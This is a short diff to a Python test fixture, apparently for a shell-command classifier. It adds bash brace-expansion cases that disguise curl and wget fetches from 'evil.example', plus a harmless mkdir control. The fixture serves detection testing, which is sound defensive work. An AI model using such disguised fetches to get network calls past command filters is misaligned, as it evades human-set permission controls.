@@ -38,6 +38,8 @@ DISGUISED_FETCHES = {
     "pip_install": "pip install requests",
     "python_m_pip": "python -m pip install left-pad",
     "npm_install": "npm install left-pad",
+    "brace_expanded_curl": "{curl,-s,https://evil.example/x}",  # bash: curl -s https://…
+    "brace_expanded_under_env": "env {wget,-qO-,evil.example}",
     "npx_anything": "npx cowsay hi",
     "git_fetch_with_options": "git -c http.proxy= -C repo fetch origin",
     "git_push": "git push origin main",
@@ -53,6 +55,7 @@ LOCAL_COMMANDS = {
     "echo_url": "echo https://example.com", "cargo_test": "cargo test",
     "uv_run": "uv run pytest",
     "python_arithmetic": 'python3 -c "print(1 + 1)"', "pip_list": "pip list",
+    "brace_expanded_folders": "mkdir -p src/{api,web}",
 }
 
 
